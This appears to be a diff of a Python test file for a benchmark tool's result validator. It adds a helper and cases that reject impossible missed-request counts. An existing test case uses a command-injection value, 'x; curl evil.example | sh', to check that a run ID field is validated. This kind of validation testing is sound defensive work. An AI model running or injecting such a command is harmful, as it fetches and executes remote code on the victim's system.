@@ -16,6 +16,7 @@ from bench.usecases.merge import judge_together
 from tests.command import Bench
 from tests.factories import make_baseline, make_recording, run_at
 from tests.render.reports import reports
+from tests.searches import make_capacity
 
 Place = tuple[str | int, ...]
 REPORTS = reports()
@@ -86,6 +87,13 @@ def test_no_value_of_a_result_causes_a_bug(bench: Bench, tmp_path: Path, kind: s
     assert taken > 50
 
 
+def search_with(missed: int) -> dict[str, Any]:
+    """The answer of a search whose first block of 100 requests has another number of missed ones."""
+    content: dict[str, Any] = json.loads(make_capacity().model_dump_json())
+    content["trials"][0]["counts"][0]["blocks"][0][1] = missed
+    return content
+
+
 @pytest.mark.parametrize(
     ("place", "value", "said"),
     [
@@ -96,6 +104,8 @@ def test_no_value_of_a_result_causes_a_bug(bench: Bench, tmp_path: Path, kind: s
         (("thresholds", 0, "metric"), "colour", "there is no metric 'colour'"),
         (("validity",), {"valid": False, "reasons": []}, "an invalid run has a reason"),
         (("provenance", "run_id"), "x; curl evil.example | sh", "provenance.run_id"),
+        (("capacity",), search_with(10**400), "capacity.trials[0].counts[0].blocks[0]"),
+        (("capacity",), search_with(101), "more missed requests than requests"),
         (("fingerprint", "system"), "x" * 300, "fingerprint.system"),
     ],
 )
